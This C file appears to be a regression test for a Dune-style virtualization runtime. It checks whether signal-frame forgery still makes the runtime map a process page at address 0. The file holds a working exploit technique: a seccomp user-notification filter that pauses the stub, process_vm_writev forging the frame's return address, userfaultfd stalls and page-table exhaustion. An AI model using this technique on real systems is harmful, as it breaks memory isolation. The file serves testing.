// SPDX-License-Identifier: MIT OR Apache-2.0
/*
 * For unchecked.bash: signals interrupt the call by which ring 0 asks the module for pages, and
 * another process writes into their frames that the call was not made yet. The runtime once made
 * the request again, as another call, and took its result 0 for a page: its page tables then had
 * the process's page at address 0. Exits with 99 if that page was written, with 0 if it was not,
 * and with 2 if nothing was tested.
 *
 * A filter with a listener stops each lseek() of the stub that brings a signal's frame: after the
 * kernel has written the frame, and before the module reads it. So no race has to be won. Whether
 * the runtime lacks a page just then depends on addresses, so each attempt is an execution of its
 * own. Needs root, for page 0, and AMD.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define LOST		99
#define NOTHING		2	/* was tested */
#define ATTEMPTS	8
#define RAW_BIT		(1 << 16)
#define PAGE		4096UL
#define LOW_PAGES	16
#define STUB_FRAME	2	/* DUNE_STUB_FRAME, the third argument of lseek() */
#define RIP_IN_FRAME	(40 + 16 * 8)
/* Places of the stub: after the system call, and at it. */
#define CALL_MADE	18
#define CALL_NOT_MADE	16

static volatile struct shared {
	int waits;	/* the call has faulted, and the signals were sent */
	int forged;
} *shared;

static uint64_t stub_address(void)
{
	unsigned long start, found = 0;
	char line[512];
	FILE *maps = fopen("/proc/self/maps", "r");

	while (maps && fgets(line, sizeof(line), maps))
		if (strstr(line, "dune-stub") && sscanf(line, "%lx-", &start) == 1)
			found = start;
	if (maps)
		fclose(maps);
	return found;
}

/* The kilobytes of the process's page tables. */
static long page_tables(void)
{
	char text[4096], *at;
	int fd = open("/proc/self/status", O_RDONLY);
	ssize_t n = read(fd, text, sizeof(text) - 1);

	close(fd);
	text[n > 0 ? n : 0] = 0;
	at = strstr(text, "VmPTE:");
	return at ? atol(at + 6) : -1;
}

static void ignore(int sig)
{
}

/* Returns the descriptor of a filter that stops lseek() with STUB_FRAME. */
static int listen_to_stub(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_lseek, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[2])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, STUB_FRAME, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return syscall(RAW_BIT | SYS_seccomp, SECCOMP_SET_MODE_FILTER,
		       SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
}

/* Writes into a frame that the call was not made, if it was made. */
static void forge(int pid, uint64_t frame, uint64_t stub)
{
	uint64_t rip = 0, other = stub + CALL_NOT_MADE;
	struct iovec here = { &rip, 8 }, there = { (void *)(frame + RIP_IN_FRAME), 8 };

	syscall(RAW_BIT | SYS_process_vm_readv, pid, &here, 1, &there, 1, 0);
	if (rip != stub + CALL_MADE || !shared->waits || shared->forged == 2)
		return;
	here.iov_base = &other;
	if (syscall(RAW_BIT | SYS_process_vm_writev, pid, &here, 1, &there, 1, 0) == 8)
		shared->forged++;
}

/* The process that attacks. It gets no signal, so its own stub is never stopped. */
static void attack(int pid, int faults, void *page, int listener, uint64_t stub)
{
	static char zeros[PAGE] __attribute__((aligned(PAGE)));
	struct uffdio_copy copy = {
		.dst = (uintptr_t)page, .src = (uintptr_t)zeros, .len = PAGE,
	};
	struct pollfd ready[] = { { faults, POLLIN, 0 }, { listener, POLLIN, 0 } };
	struct uffd_msg message;

	while (poll(ready, 2, 20000) > 0 && !(ready[1].revents & POLLHUP)) {
		if (ready[0].revents & POLLIN && !shared->waits) {
			if (read(faults, &message, sizeof(message)) != sizeof(message))
				break;
			shared->waits = 1;
			kill(pid, SIGUSR1);
			kill(pid, SIGUSR2);
			ioctl(faults, UFFDIO_COPY, &copy);
		}
		if (ready[1].revents & POLLIN) {
			struct seccomp_notif stopped = {};
			struct seccomp_notif_resp answer = {
				.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE,
			};

			if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &stopped))
				continue;
			forge(pid, stopped.data.args[1], stub);
			answer.id = stopped.id;
			ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
		}
	}
	_exit(0);
}

/* Each half terabyte takes a page of the runtime's for tables, until it has no spare one. */
static void use_pages(int more)
{
	int seen = 0;

	for (long i = 2; i < 60; i++) {
		volatile char *at = mmap((void *)(i << 39), PAGE, PROT_READ | PROT_WRITE,
					 MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		long before;

		if (at == MAP_FAILED)
			continue;
		/* The kernel writes first, and makes its own tables. */
		if (getrandom((void *)at, 1, 0) != 1)
			continue;
		before = page_tables();
		*at;
		if (seen && page_tables() == before && !more--)
			break;
		seen |= page_tables() - before == 8;
	}
}

static int attempt(int more)
{
	struct sigaction action = { .sa_handler = ignore };
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register registered = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	uint64_t stub = stub_address();
	volatile uint64_t *low;
	int faults, listener, pid = getpid(), attacker, words = 0, null;
	void *page;

	/* Found by trying: without these calls the runtime has a spare page when it needs one. */
	null = open("/dev/null", O_RDWR);
	dup2(null, STDERR_FILENO);
	close(null);
	low = mmap(NULL, LOW_PAGES * PAGE, PROT_READ | PROT_WRITE,
		   MAP_FIXED | MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (low == MAP_FAILED || !stub)
		return NOTHING;
	for (int i = 0; i < LOW_PAGES; i++)
		low[i * PAGE / 8] = 0;
	shared = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	page = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	/* Not in the kernel's mode: so the stub accesses the page. */
	faults = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | UFFD_USER_MODE_ONLY);
	registered.range.start = (uintptr_t)page;
	registered.range.len = PAGE;
	if (shared == MAP_FAILED || page == MAP_FAILED || ioctl(faults, UFFDIO_API, &api) ||
	    ioctl(faults, UFFDIO_REGISTER, &registered))
		return NOTHING;
	sigaction(SIGUSR1, &action, NULL);
	sigaction(SIGUSR2, &action, NULL);
	listener = listen_to_stub();
	if (listener < 0)
		return NOTHING;
	attacker = fork();
	if (!attacker)
		attack(pid, faults, page, listener, stub);
	use_pages(more);
	/* The runtime reads this structure, which faults. */
	syscall(SYS_sigaltstack, page, NULL);
	for (unsigned long i = 0; i < LOW_PAGES * PAGE / 8; i++)
		words += low[i] != 0;
	kill(attacker, SIGKILL);
	if (words)
		return LOST;
	return shared->forged == 2 ? 0 : NOTHING;
}

int main(int argc, char **argv)
{
	int worst = NOTHING, status;

	if (argc > 1)
		return attempt(atoi(argv[1]));
	for (int i = 0; i < ATTEMPTS && worst != LOST; i++) {
		int pid = fork();

		if (!pid) {
			execl(argv[0], argv[0], i & 1 ? "1" : "0", NULL);
			_exit(NOTHING);
		}
		if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
			continue;
		if (WEXITSTATUS(status) == LOST || !WEXITSTATUS(status))
			worst = WEXITSTATUS(status);
	}
	printf("# stale_again: %d\n", worst);
	return worst;
}
